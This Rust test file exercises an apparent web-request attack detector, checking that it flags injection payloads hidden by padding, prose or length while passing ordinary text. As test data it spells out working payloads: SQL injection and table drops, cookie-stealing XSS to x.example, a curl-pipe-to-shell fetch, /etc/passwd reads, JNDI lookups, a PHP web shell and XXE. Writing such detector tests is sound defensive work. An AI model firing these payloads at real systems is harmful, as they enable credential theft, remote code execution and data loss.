//! Cases as data: what is an attack and of which class, and what ordinary people write.

use portcullis_inspect::{Budget, Class, Classes, Place, inspect, inspect_within};

fn lines(text: &str) -> impl Iterator<Item = String> + '_ {
    text.lines()
        .filter(|line| !line.is_empty() && !line.starts_with("# class"))
        .map(|line| line.replace("\\r", "\r").replace("\\n", "\n"))
}

#[test]
fn attacks_are_known() {
    let mut missed = Vec::new();
    for line in lines(include_str!("cases/attacks.txt")) {
        let (class, value) = line.split_once(' ').unwrap();
        let verdict = inspect(value.as_bytes(), Place::Query).filter(|verdict| verdict.is_attack());
        if verdict.as_ref().is_none_or(|verdict| verdict.class.name() != class) {
            missed.push(format!("{line:?}: {verdict:?}"));
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn ordinary_people_are_left_alone() {
    let mut alarms = Vec::new();
    for line in include_str!("cases/ordinary.txt").lines() {
        for place in [Place::Query, Place::Form, Place::Body] {
            if let Some(verdict) =
                inspect(line.replace("\\n", "\n").as_bytes(), place).filter(|verdict| verdict.is_attack())
            {
                alarms.push(format!("{place:?} {line:?}: {verdict}"));
            }
        }
    }
    assert!(alarms.is_empty(), "{}", alarms.join("\n"));
}

/// A value of `evasions.txt`: `\xNN` is a byte, `\\` a backslash.
fn bytes(text: &str) -> Option<Vec<u8>> {
    let (mut out, mut rest) = (Vec::new(), text);
    while let Some((plain, escape)) = rest.split_once('\\') {
        out.extend_from_slice(plain.as_bytes());
        if let Some(hex) = escape.strip_prefix('x') {
            let (digits, behind) = hex.split_at_checked(2)?;
            out.push(u8::from_str_radix(digits, 16).ok()?);
            rest = behind;
        } else {
            out.push(b'\\');
            rest = escape.strip_prefix('\\')?;
        }
    }
    out.extend_from_slice(rest.as_bytes());
    Some(out)
}

#[test]
fn evasions_hide_nothing() {
    let mut missed = Vec::new();
    for line in include_str!("cases/evasions.txt").lines().filter(|line| !line.starts_with('#')) {
        let [how, _class, value] = line.splitn(3, " | ").collect::<Vec<_>>()[..] else { panic!("{line}") };
        let value = bytes(value).unwrap();
        for place in [Place::Query, Place::Body] {
            if !inspect(&value, place).is_some_and(|verdict| verdict.is_attack()) {
                missed.push(format!("{how}, {place:?}: {line}"));
            }
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn padding_hides_nothing() {
    for (class, value) in [
        ("sql", "1' or '1'='1"),
        ("xss", "<script>alert(1)</script>"),
        ("command", "; cat /etc/hosts"),
        ("jndi", "${jndi:ldap://x.example/a}"),
    ] {
        for value in [format!("{} {value}", "x".repeat(100_000)), format!("{value} {}", "x".repeat(100_000))]
        {
            let verdict = inspect(value.as_bytes(), Place::Body).filter(|verdict| verdict.is_attack());
            assert_eq!(verdict.map(|verdict| verdict.class.name()), Some(class));
        }
    }
}

#[test]
fn prose_around_it_hides_nothing_that_steals() {
    let prose = "The parcel came on time, and the shoes fit well. My daughter wears them every day, which says a lot! \
                 We had ordered two pairs before: one was too small, the other was sent back without any trouble. "
        .repeat(3);
    for attack in [
        "<script>new Image().src='//x.example/?'+document.cookie</script>",
        "<img src=x onerror=fetch('//x.example/'+document.cookie)>",
        "<script>eval(atob('YWxlcnQoMSk='))</script>",
        "${jndi:ldap://x.example/a}",
        "<svg onload=alert(1)>",
    ] {
        let value = format!("{prose}{attack}{prose}");
        assert!(
            inspect(value.as_bytes(), Place::Body).is_some_and(|verdict| verdict.is_attack()),
            "{attack}"
        );
    }
    assert_eq!(inspect(prose.as_bytes(), Place::Body), None);
}

/// A letter, long enough that it is taken for one.
const LETTER: [&str; 2] = [
    "The parcel came on time, and the shoes fit well. My daughter wears them every day, which says a lot! We had \
     ordered two pairs before: one was too small, the other was sent back without any trouble. I would buy here again. ",
    "Thank you for all of it, we are very happy with what we got. The next order will follow in spring, when the boys \
     need something for the garden. Until then, all the best from the north of the country, where it rains today.",
];

#[test]
fn a_letter_around_it_hides_nothing_that_breaks_out() {
    let [before, after] = LETTER;
    let mut missed = Vec::new();
    for attack in [
        "x' or '1'='1",
        "x' union select login, password from users-- ",
        "'; drop table orders-- ",
        "; cat /etc/passwd",
        "$(curl http://x.example/a|sh)",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "${7*7}",
        "<?php system($_GET['c']); ?>",
        "*)(uid=*))(|(uid=*",
        "<!--#exec cmd=\"ls\" -->",
        "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hosts\">]>",
        "' || '1'=='1'; return true; var a='",
        "__proto__[admin]=1",
        "javascript:alert(document.domain)",
    ] {
        let lines = format!("{before}\n{attack}\n{after}");
        if !inspect(lines.as_bytes(), Place::Body).is_some_and(|verdict| verdict.is_attack()) {
            missed.push(attack);
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
    assert_eq!(inspect(format!("{before}\n{after}").as_bytes(), Place::Body), None);
}

#[test]
fn length_hides_nothing() {
    let base64 = "eHh4eHh4eHh4eHh4PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+";
    for value in [
        format!("{}' or 1=1-- ", "a,".repeat(9_000)),
        format!("{}' union select login, password from users-- ", "apple pear ".repeat(3_000)),
        format!("{}{base64}", "eHh4".repeat(30_000)),
        format!("{}data={base64}(y)", "x: y; ".repeat(1_000)),
        format!("{{{{ '{}' + ''.__class__.__mro__ }}}}", "a".repeat(900)),
        format!("${{jndi${{lower:{}}}:ldap://x.example/a}}", " ".repeat(900)),
        format!("x;{}cat /etc/hosts", " ".repeat(40)),
        format!("x\" onerror{}=alert(1)", " ".repeat(20)),
        format!("%{}27 or 1=1-- ", "25".repeat(9)),
    ] {
        let verdict = inspect(value.as_bytes(), Place::Body);
        assert!(verdict.is_some_and(|v| v.is_attack()), "{}…", value.get(..60).unwrap_or(&value));
    }
}

/// What to repeat so that inspection has much to look at: one piece a line.
#[expect(clippy::unwrap_used, reason = "a piece that cannot be read ends the test")]
fn costly() -> Vec<Vec<u8>> {
    include_str!("cases/costly.txt").lines().map(|line| bytes(line).unwrap()).collect()
}

fn repeated(piece: &[u8], length: usize) -> Vec<u8> {
    piece.iter().copied().cycle().take(length).collect()
}

const PLACES: [Place; 3] = [Place::Query, Place::Body, Place::Path];

#[test]
fn work_is_bounded_and_what_is_left_undone_is_refused() {
    for piece in costly() {
        for place in PLACES {
            for length in [8, 60, 500, 20_000] {
                let value = repeated(&piece, length);
                let mut budget = Budget::of(value.len());
                let verdict = inspect_within(&value, place, Classes::default(), &mut budget);
                assert!(budget.spent() <= Budget::steps(value.len()));
                let refused = verdict.is_some_and(|verdict| verdict.is_attack());
                assert!(refused || !budget.is_out(), "{:?}", String::from_utf8_lossy(&piece));
            }
        }
    }
}

#[test]
fn nothing_hides_behind_what_is_costly() {
    for piece in costly() {
        let mut value = repeated(&piece, 20_000);
        value.extend_from_slice(b"' onerror=1 \"><script>alert(document.cookie)</script>");
        for place in PLACES {
            assert!(
                inspect(&value, place).is_some_and(|verdict| verdict.is_attack()),
                "{:?}",
                String::from_utf8_lossy(&piece)
            );
        }
    }
}

/// How many steps `value` takes where nobody counts them.
fn all_steps(value: &[u8], place: Place) -> u64 {
    let mut budget = Budget::of(1 << 32);
    // What is found early ends the search: only what passes has to be looked at to the end.
    let mut passed = Classes::default();
    Class::ALL.into_iter().for_each(|class| assert!(passed.insert(class)));
    inspect_within(value, place, passed, &mut budget);
    budget.spent()
}

#[test]
fn work_grows_with_the_length_and_not_faster() {
    for piece in costly() {
        for place in PLACES {
            let [short, long] = [8_000, 32_000].map(|length| all_steps(&repeated(&piece, length), place));
            assert!(
                long <= short * 4 + short / 2 + 20_000,
                "{:?} in {place:?}: {short} steps, and {long} for four times as much",
                String::from_utf8_lossy(&piece)
            );
        }
    }
}

#[test]
fn ordinary_text_is_far_from_the_bound() {
    for line in include_str!("cases/ordinary.txt").lines() {
        let line = line.replace("\\n", "\n");
        let (taken, allowed) = (all_steps(line.as_bytes(), Place::Body), Budget::steps(line.len()));
        assert!(taken * 5 <= allowed * 4, "{taken} steps of {allowed} for {line:?}");
    }
}
